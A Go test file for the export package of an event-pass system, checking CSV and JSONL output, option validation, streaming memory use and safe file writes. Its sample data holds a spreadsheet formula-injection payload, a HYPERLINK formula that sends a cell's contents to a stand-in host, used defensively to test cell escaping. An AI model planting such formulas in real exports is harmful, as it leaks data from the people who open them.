package export

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/laminate/laminate/pass"
	"github.com/laminate/laminate/record"
	"github.com/laminate/laminate/store"
)

var update = flag.Bool("update", false, "rewrite the golden files")

// fake is a Source of fixed rows, or of n generated scans.
type fake struct {
	scans  []store.Scan
	passes []store.ExportedPass
	alerts []store.Alert
	audit  []store.AuditEntry
	inside map[string][]pass.Serial
	n      int                // generated scans, when scans is nil
	each   func(i int)        // called before generated scan i
	last   store.ExportFilter // the filter of the last call
}

func (f *fake) EachScan(ctx context.Context, flt store.ExportFilter, fn func(*store.Scan) error) error {
	f.last = flt
	if f.scans == nil {
		sc := store.Scan{Event: "ev", Gate: "north", Zone: "stage", Direction: "in", Decision: record.Admit, Code: "ok", Verdict: "ok", Source: record.Online}
		at := time.Date(2026, 11, 20, 19, 0, 0, 0, time.UTC)
		for i := range f.n {
			if f.each != nil {
				f.each(i)
			}
			sc.ID, sc.Serial, sc.At = fmt.Sprintf("scan-%09d", i), "CAT5NA3G", at.Add(time.Duration(i)*time.Millisecond)
			if err := fn(&sc); err != nil {
				return err
			}
		}
		return nil
	}
	for i := range f.scans {
		if err := fn(&f.scans[i]); err != nil {
			return err
		}
	}
	return nil
}

func (f *fake) EachPass(ctx context.Context, flt store.ExportFilter, fn func(*store.ExportedPass) error) error {
	f.last = flt
	for i := range f.passes {
		if err := fn(&f.passes[i]); err != nil {
			return err
		}
	}
	return nil
}

func (f *fake) EachAlert(ctx context.Context, flt store.ExportFilter, fn func(*store.Alert) error) error {
	f.last = flt
	for i := range f.alerts {
		if err := fn(&f.alerts[i]); err != nil {
			return err
		}
	}
	return nil
}

func (f *fake) EachAudit(ctx context.Context, flt store.ExportFilter, fn func(*store.AuditEntry) error) error {
	f.last = flt
	for i := range f.audit {
		if err := fn(&f.audit[i]); err != nil {
			return err
		}
	}
	return nil
}

func (f *fake) Inside(ctx context.Context, event string) (map[string][]pass.Serial, error) {
	return f.inside, nil
}

func (f *fake) Pass(ctx context.Context, serial pass.Serial) (*store.Issued, error) {
	for _, p := range f.passes {
		if p.Serial == serial {
			return &p.Issued, nil
		}
	}
	return nil, store.ErrNotFound
}

var t0 = time.Date(2026, 11, 20, 19, 0, 0, 0, time.UTC)

// sample has a row of each kind, with text a spreadsheet would run as a
// formula, commas, quotes, new lines and non-Latin names.
func sample() *fake {
	hostile := "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
	return &fake{
		scans: []store.Scan{
			{ID: "s1", At: t0, Event: "ev", Gate: "north", Zone: "stage", Direction: "in", Serial: "CAT5NA3G", Decision: record.Admit, Code: "ok", Verdict: "ok", Source: record.Online, Credential: "tok1"},
			{ID: "s2", At: t0.Add(time.Minute), Event: "ev", Gate: "@south", Zone: "foh", Direction: "in", Serial: "7K2M9QX4", Decision: record.Admit, Code: "offline_ok",
				Verdict: "revoked", Source: record.Offline, Credential: "tok2", DeviceAt: t0.Add(50 * time.Second)},
			{ID: "s3", At: t0.Add(2 * time.Minute), Event: "ev", Gate: "north", Zone: "stage", Direction: "in", Serial: "CAT5NA3G", Decision: record.Attention, Code: "clone",
				Verdict: "ok", Source: record.Online, Resolution: record.Deny, ResolvedBy: "-1+1", ResolvedAt: t0.Add(3 * time.Minute)},
		},
		passes: []store.ExportedPass{
			{Issued: store.Issued{Pass: pass.Pass{Serial: "CAT5NA3G", Event: "ev", Type: pass.AAA, Name: hostile, Org: "Crew, \"Day\" 1", Role: "+lighting",
				ValidUntil: t0.Add(48 * time.Hour), Issuer: "office"}, KID: "k1", IssuedAt: t0.Add(-10 * time.Hour)}},
			{Issued: store.Issued{Pass: pass.Pass{Serial: "7K2M9QX4", Event: "ev", Type: pass.VIP, Name: "Zoë 李 Ångström", Org: "\tTab\r\nCo", Photo: "sha256-x",
				ValidFrom: t0.Add(-time.Hour), ValidUntil: t0.Add(48 * time.Hour), Issuer: "office"}, KID: "k1", IssuedAt: t0.Add(-9 * time.Hour)},
				Revoked: &store.Revocation{Seq: 1, Category: pass.RevokeStolen, At: t0.Add(-time.Hour)}},
		},
		alerts: []store.Alert{{ID: 7, Event: "ev", Serial: "CAT5NA3G", Kind: record.AlertTwoGates, Scans: [2]string{"s1", "s2"}, Gates: [2]string{"north", "@south"},
			At: t0.Add(time.Minute), Detected: t0.Add(2 * time.Minute), Reason: "=1+1 two gates"}},
		audit: []store.AuditEntry{{ID: 1, At: t0.Add(-11 * time.Hour), Actor: "user:ana (Ana)", Action: "event.create", Subject: "ev", Detail: `{"name":"Show"}`},
			{ID: 2, At: t0.Add(-10 * time.Hour), Actor: "@admin", Action: "pass.issue", Subject: "CAT5NA3G", Detail: `{"event":"ev"}`}},
		inside: map[string][]pass.Serial{"stage": {"CAT5NA3G"}, "foh": {"7K2M9QX4", "GONEGONE"}},
	}
}

// TestGolden: each kind in each format, as committed in testdata (go
// test ./export -run TestGolden -update rewrites them).
func TestGolden(t *testing.T) {
	for _, kind := range Kinds {
		for _, format := range []string{CSV, JSONL} {
			t.Run(kind+"."+format, func(t *testing.T) {
				var buf bytes.Buffer
				n, err := Write(context.Background(), sample(), &buf, Options{Kind: kind, Format: format, Filter: store.ExportFilter{Event: "ev"}})
				if err != nil {
					t.Fatal(err)
				}
				if n == 0 {
					t.Fatal("no rows")
				}
				path := filepath.Join("testdata", kind+"."+format)
				if *update {
					if err := os.WriteFile(path, buf.Bytes(), 0o644); err != nil {
						t.Fatal(err)
					}
				}
				want, err := os.ReadFile(path)
				if err != nil {
					t.Fatal(err)
				}
				if !bytes.Equal(buf.Bytes(), want) {
					t.Errorf("%s differs from the golden file:\n%s\nwant:\n%s", path, buf.Bytes(), want)
				}
				if format == JSONL {
					for _, line := range strings.Split(strings.TrimSuffix(buf.String(), "\n"), "\n") {
						if !json.Valid([]byte(line)) {
							t.Errorf("not JSON: %s", line)
						}
					}
				}
			})
		}
	}
}

// TestCSVInjection: no cell of a CSV export starts with a character a
// spreadsheet reads as a formula, and the text survives otherwise whole.
func TestCSVInjection(t *testing.T) {
	for _, kind := range Kinds {
		var buf bytes.Buffer
		if _, err := Write(context.Background(), sample(), &buf, Options{Kind: kind, Filter: store.ExportFilter{Event: "ev"}}); err != nil {
			t.Fatal(err)
		}
		recs, err := csv.NewReader(&buf).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", kind, err)
		}
		if strings.Join(recs[0], ",") != strings.Join(columns[kind], ",") {
			t.Errorf("%s header %v", kind, recs[0])
		}
		for _, rec := range recs[1:] {
			for _, cell := range rec {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("%s: cell %q starts a formula", kind, cell)
				}
			}
		}
	}
	for in, want := range map[string]string{
		"=1+1": "'=1+1", "+1": "'+1", "-1": "'-1", "@SUM(A1)": "'@SUM(A1)", "\tx": "'\tx", "\rx": "'\rx",
		"a=1": "a=1", "": "", "Zoë": "Zoë", "bad\xffbyte": "bad\uFFFDbyte", "'quoted": "'quoted",
	} {
		if got := SafeCell(in); got != want {
			t.Errorf("SafeCell(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestCheck(t *testing.T) {
	ev := store.ExportFilter{Event: "ev"}
	for _, tc := range []struct {
		o   Options
		bad string
	}{
		{Options{Kind: Scans, Filter: ev}, ""},
		{Options{Kind: "tickets", Filter: ev}, "unknown export"},
		{Options{Kind: Scans, Format: "xlsx", Filter: ev}, "unknown format"},
		{Options{Kind: Scans}, "needs an event"},
		{Options{Kind: Scans, Filter: store.ExportFilter{Event: "ev", Since: t0, Until: t0}}, "after since"},
		{Options{Kind: Audit, Filter: store.ExportFilter{Event: "ev", Zone: "stage"}}, "no zone filter"},
		{Options{Kind: Passes, Filter: store.ExportFilter{Event: "ev", Gate: "north"}}, "no gate filter"},
		{Options{Kind: Passes, Filter: store.ExportFilter{Event: "ev", Status: "lost"}}, "valid or revoked"},
		{Options{Kind: Scans, Filter: store.ExportFilter{Event: "ev", Gate: strings.Repeat("g", 101)}}, "longer"},
	} {
		err := tc.o.Check()
		if (tc.bad == "") != (err == nil) || (err != nil && !strings.Contains(err.Error(), tc.bad)) {
			t.Errorf("Check(%+v) = %v, want %q", tc.o, err, tc.bad)
		}
	}
	if _, err := ParseTime("2026-11-20T19:00:00+01:00"); err != nil {
		t.Error(err)
	}
	if _, err := ParseTime("yesterday"); err == nil {
		t.Error("ParseTime(yesterday) succeeded")
	}
}

// countingWriter counts bytes and keeps none.
type countingWriter struct{ n int64 }

func (c *countingWriter) Write(p []byte) (int, error) { c.n += int64(len(p)); return len(p), nil }

// TestStreamsInBoundedMemory: an export of many rows reaches the writer
// as the rows are read (the output keeps pace with the rows, within the
// buffer), and the heap stays small while hundreds of megabytes pass.
func TestStreamsInBoundedMemory(t *testing.T) {
	if testing.Short() {
		t.Skip("writes about 100 MB")
	}
	const rows = 600_000
	out := &countingWriter{}
	var maxHeap uint64
	minRow := int64(len("scan-000000000,2026-11-20T19:00:00Z,ev,north,stage,in,CAT5NA3G,admit,ok,ok,online,,,,,\n"))
	src := &fake{n: rows}
	src.each = func(i int) {
		if i == 0 || i%100_000 != 0 {
			return
		}
		// Everything but the buffers has reached the writer.
		if behind := int64(i)*minRow - out.n; behind > 64<<10 {
			t.Errorf("after %d rows the writer got %d bytes: %d behind, buffered", i, out.n, behind)
		}
		runtime.GC()
		var m runtime.MemStats
		runtime.ReadMemStats(&m)
		maxHeap = max(maxHeap, m.HeapAlloc)
	}
	progress := 0
	n, err := Write(context.Background(), src, out, Options{Kind: Scans, Filter: store.ExportFilter{Event: "ev"}, Progress: func(n int) { progress = n }})
	if err != nil || n != rows || progress != rows {
		t.Fatalf("Write() = %d, %v (progress %d), want %d rows", n, err, progress, rows)
	}
	if out.n < rows*minRow {
		t.Fatalf("wrote %d bytes, want at least %d", out.n, rows*minRow)
	}
	if maxHeap > 16<<20 {
		t.Errorf("heap reached %d MiB while exporting %d MiB", maxHeap>>20, out.n>>20)
	}
	t.Logf("%d rows, %d MiB written, heap at most %d MiB", n, out.n>>20, maxHeap>>20)
}

// TestStopsOnWriteError: a failing writer stops the read.
func TestStopsOnWriteError(t *testing.T) {
	src := &fake{n: 1_000_000}
	read := 0
	src.each = func(i int) { read = i }
	_, err := Write(context.Background(), src, failWriter{}, Options{Kind: Scans, Format: JSONL, Filter: store.ExportFilter{Event: "ev"}})
	if !errors.Is(err, errDisk) || read > 10*FlushEvery {
		t.Errorf("Write() = %v after %d rows, want the writer's error at once", err, read)
	}
}

var errDisk = errors.New("disk full")

type failWriter struct{}

func (failWriter) Write([]byte) (int, error) { return 0, errDisk }

func TestWriteFile(t *testing.T) {
	path := filepath.Join(t.TempDir(), "scans.csv")
	if err := os.WriteFile(path, []byte("old"), 0o600); err != nil {
		t.Fatal(err)
	}
	_, err := WriteFile(context.Background(), sample(), path, Options{Kind: "nope", Format: CSV})
	if err == nil || !strings.Contains(err.Error(), "nothing written to "+path) {
		t.Errorf("bad kind: error = %v", err)
	}
	if b, _ := os.ReadFile(path); string(b) != "old" {
		t.Errorf("after a failed export the file holds %q", b)
	}
	n, err := WriteFile(context.Background(), &fake{n: 3}, path, Options{Kind: Scans, Format: CSV, Filter: store.ExportFilter{Event: "ev"}})
	if err != nil || n != 3 {
		t.Fatalf("WriteFile = %d, %v", n, err)
	}
	if fi, err := os.Stat(path); err != nil || fi.Mode().Perm() != 0o600 || fi.Size() < 10 {
		t.Errorf("stat = %v, %v; want a 0600 file with the rows", fi, err)
	}
}
